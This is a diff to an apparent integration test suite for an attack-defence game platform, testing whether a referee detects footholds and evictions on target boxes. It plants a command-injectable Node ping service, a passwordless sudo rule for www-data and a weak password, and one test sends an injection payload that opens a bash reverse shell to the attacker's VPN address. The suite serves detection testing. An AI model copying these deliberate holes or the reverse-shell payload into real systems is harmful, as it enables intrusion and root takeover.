@@ -9,6 +9,7 @@ import path from 'node:path';
 import { promisify } from 'node:util';
 import { expect } from 'chai';
 import { testLogger } from '../../testing/logger.ts';
+import type { Attack } from '../../contracts/index.ts';
 import type { BoxObservation, BoxSpec, VpnIdentity, VpnSession } from '../orchestrator.ts';
 import { ClientNamespace, VpnClient, boxHostProblem } from '../../testing/netns.ts';
 import { orchestratorContract } from '../../testing/orchestrator-contract.ts';
@@ -278,6 +279,9 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     const started = Date.now();
     const first = await Promise.all([runtime!.applyBox(aliceBox), runtime!.applyBox(bobBox)]);
     expect(first.map((o) => o.phase)).to.deep.equal(['PROVISIONING', 'PROVISIONING']);
+    // Applied at once, neither undid the other's bridge port (its ARP would be dropped for good).
+    const ports = await runtime!.router.listPorts();
+    for (const spec of [aliceBox, bobBox]) expect(ports, 'the router’s box ports').to.include(ip(spec));
     expect(first[0]!.ip).to.equal('10.200.1.8');
     expect(first[1]!.ip).to.equal('10.200.1.9');
     const [a, b] = await Promise.all([
@@ -516,11 +520,13 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
   const DEV_PASSWORD = 'hunter2-dev';
 
   /** A new attack by Bob on Alice's box: its window and the referee's watch. */
+  /** The attacks the referee watches, as it was told of them (to tell a restarted referee again). */
+  const watched = new Map<string, Attack>();
   async function attack(): Promise<string> {
     const referee = await refereeReady();
     const id = randomUUID();
     await runtime!.openAttackWindow(users.bob, aliceBox.id, new Date(Date.now() + 120_000));
-    await referee.watch({
+    const running: Attack = {
       id,
       attacker: { id: users.bob, handle: 'bob' },
       target: { id: users.alice, handle: 'alice' },
@@ -539,7 +545,9 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
       createdAt: new Date().toISOString(),
       endsAt: new Date(Date.now() + 120_000).toISOString(),
       endedAt: null,
-    });
+    };
+    watched.set(id, running);
+    await referee.watch(running);
     return id;
   }
   async function end(id: string): Promise<void> {
@@ -562,11 +570,6 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     // The defender's services: a user with a weak password, a root service that forks for each
     // connection (no new program), a long-lived root web server, and a page with a command
     // injection run as www-data (with a careless sudo rule).
-    const injection = `require('http').createServer((req, res) => {
-      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
-      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
-      res.end('pinged\\n');
-    }).listen(8080);`;
     const forking = `use IO::Socket::INET; $SIG{CHLD}='IGNORE';
       my $s = IO::Socket::INET->new(LocalPort => 9000, Listen => 5, ReuseAddr => 1) or die;
       while (my $c = $s->accept) { if (!fork) { print $c "hello\\n"; sleep 2; exit 0 } close $c }`;
@@ -575,15 +578,32 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
       [
         'id dev >/dev/null 2>&1 || useradd -m -s /bin/bash dev',
         `echo "dev:${DEV_PASSWORD}" | chpasswd`,
-        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
-        'systemd-run --quiet --unit=forking /usr/bin/perl -e "$2"',
-        'systemd-run --quiet --unit=web /usr/bin/node -e "$3"',
+        'systemd-run --quiet --unit=forking /usr/bin/perl -e "$1"',
+        'systemd-run --quiet --unit=web /usr/bin/node -e "$2"',
         'echo "www-data ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/ops && chmod 440 /etc/sudoers.d/ops',
-        'for p in 8080 9000 9001; do for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && continue 2; sleep 0.1; done; echo "port $p never opened" >&2; exit 1; done',
+        'for p in 9000 9001; do for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null && continue 2; sleep 0.1; done; echo "port $p never opened" >&2; exit 1; done',
       ].join('\n'),
-      [injection, forking, web],
+      [forking, web],
     );
+    await startPingService();
     return referee;
+  }
+
+  /** The defender's page with a command injection on port 8080, run as www-data (started again when stopped). */
+  async function startPingService(): Promise<void> {
+    const injection = `require('http').createServer((req, res) => {
+      const host = new URL(req.url, 'http://box').searchParams.get('host') || '';
+      require('child_process').spawn('sh', ['-c', 'ping -c 1 ' + host], { detached: true, stdio: 'ignore' }).unref();
+      res.end('pinged\\n');
+    }).listen(8080);`;
+    await asOwner(
+      [
+        'systemctl stop pingsvc 2>/dev/null; systemctl reset-failed pingsvc 2>/dev/null',
+        'systemd-run --quiet --unit=pingsvc --uid=www-data -p WorkingDirectory=/tmp /usr/bin/node -e "$1"',
+        'for i in $(seq 150); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && exit 0; sleep 0.1; done; echo "port 8080 never opened" >&2; exit 1',
+      ].join('\n'),
+      [injection],
+    );
   }
 
   it('sees nobody’s shell in a bare connection to sshd, to a forking root service or in a request to a root web server', async () => {
@@ -627,6 +647,76 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     await end(id);
   });
 
+  it('sees through a NAT of the defender’s own that renames the attacker’s address at the box’s door', async () => {
+    const id = await attack();
+    // Box root has every connection from Bob's address arrive from another one (snat at input).
+    await asOwner(
+      [
+        'nft add table ip hide',
+        "nft add chain ip hide in '{ type nat hook input priority 100; }'",
+        'nft add rule ip hide in ip saddr "$1" snat to 10.200.1.250',
+      ].join(' && '),
+      [session(users.bob)!.vpnAddress],
+    );
+    try {
+      const seenBySshd = await bob.ssh(ip(aliceBox), 'cd /tmp && id >/dev/null; echo "$SSH_CONNECTION"', {
+        password: DEV_PASSWORD,
+        user: 'dev',
+      });
+      expect(seenBySshd.split(' ')[0], 'the address sshd saw').to.equal('10.200.1.250');
+      const seen = await judged(id);
+      expect(seen.find((v) => v.kind === 'FOOTHOLD')?.detail).to.match(/^User shell as dev: /);
+      expect(seen.some((v) => v.kind === 'COMMAND uid=1000 dev /tmp' && v.detail === 'id')).to.equal(true);
+    } finally {
+      await asOwner('nft delete table ip hide');
+      await end(id);
+    }
+  });
+
+  it('follows a proxy in front of sshd to the player behind it, when it serves that player alone', async () => {
+    const id = await attack();
+    // The defender puts a TCP proxy on port 2222 in front of sshd (its upstream on loopback).
+    const proxy = `const net = require('net');
+      net.createServer((c) => { const u = net.connect(22, '127.0.0.1'); c.pipe(u).pipe(c);
+        c.on('error', () => u.destroy()); u.on('error', () => c.destroy()); }).listen(2222);`;
+    await asOwner(
+      [
+        'systemd-run --quiet --unit=sshproxy /usr/bin/node -e "$1"',
+        'for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/2222) 2>/dev/null && break; sleep 0.1; done',
+      ].join('\n'),
+      [proxy],
+    );
+    let second: string | null = null;
+    try {
+      const through = await bob.ssh(ip(aliceBox), 'cd /tmp && id >/dev/null; echo "$SSH_CONNECTION"', {
+        password: DEV_PASSWORD,
+        user: 'dev',
+        port: 2222,
+      });
+      expect(through.split(' ')[0], 'the address sshd saw').to.equal('127.0.0.1');
+      let seen = await judged(id);
+      expect(seen.find((v) => v.kind === 'FOOTHOLD')?.detail).to.match(/^User shell as dev: /);
+      expect(seen.some((v) => v.kind === 'COMMAND uid=1000 dev /tmp' && v.detail === 'id')).to.equal(true);
+      await end(id);
+      // While the owner holds a connection through it too, the proxy could carry either's
+      // login: nobody's (docs/detection.md, limits).
+      second = await attack();
+      const owners = alice.holdConnection(ip(aliceBox), 2222, 4000);
+      await sleep(500);
+      await bob.ssh(ip(aliceBox), 'cd /tmp && id >/dev/null', {
+        password: DEV_PASSWORD,
+        user: 'dev',
+        port: 2222,
+      });
+      seen = await judged(second);
+      expect(seen.map((v) => v.kind)).to.not.include('FOOTHOLD');
+      await owners;
+    } finally {
+      await end(second ?? id);
+      await asOwner('systemctl stop sshproxy; true');
+    }
+  });
+
   it('holds a reverse shell as a FOOTHOLD though the defender stops every daemon, until the defender kills it; sudo is OWNED', async () => {
     const id = await attack();
     const listen = async (port: number) => {
@@ -658,9 +748,7 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     await until('the eviction', async () => (await judged(id)).at(-1)!.kind === 'EVICTED', 5000).catch(
       async () => expect.fail(JSON.stringify(await judged(id), null, 1)),
     );
-    await asOwner(
-      'systemctl restart pingsvc; for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null && break; sleep 0.1; done',
-    );
+    await startPingService();
 
     const again = await listen(4445);
     await again.run('sudo -n id');
@@ -672,6 +760,42 @@ describe('local box runtime on this host (real containers, OpenVPN, namespaces, 
     await asOwner(
       'systemctl start systemd-journald.socket systemd-journald; systemctl stop pingsvc forking web; rm -f /etc/sudoers.d/ops',
     );
+  });
+
+  it('keeps a program the attacker left behind across a referee restart, until the defender kills it', async () => {
+    await startPingService();
+    const id = await attack();
+    const shell = await bob.listenForShell(4446);
+    try {
+      const payload = `;bash -c 'bash -i >& /dev/tcp/${session(users.bob)!.vpnAddress}/4446 0>&1'`;
+      await bob.httpGet(`http://${ip(aliceBox)}:8080/?host=${encodeURIComponent(payload)}`);
+      await shell.connected;
+      await shell.run('(nohup sleep 300 >/dev/null 2>&1 &)');
+      // The attacker leaves: the shell ends, the box closes the connection.
+      shell.send('exit');
+      await shell.closed;
+      let seen = await judged(id);
+      expect(seen.map((v) => v.kind))
+        .to.include('FOOTHOLD')
+        .and.not.include('EVICTED');
+      // The API restarts: a new referee reads the trace again (the shell that ran sleep is gone).
+      await referee!.close();
+      referee = runtime!.referee(sink);
+      await referee.start();
+      await referee.watch(watched.get(id)!);
+      await sleep(1200);
+      seen = await judged(id);
+      expect(
+        seen.map((v) => v.kind),
+        'verdicts after the restart',
+      ).to.not.include('EVICTED');
+      await asOwner('pkill -f "^sleep 300"; true');
+      await until('the eviction', async () => (await judged(id)).at(-1)!.kind === 'EVICTED', 5000);
+    } finally {
+      shell.close();
+      await asOwner('pkill -f "^sleep 300"; systemctl stop pingsvc; true');
+      await end(id);
+    }
   });
 
   it('adopts running boxes and VPN sessions after an API restart', async function () {
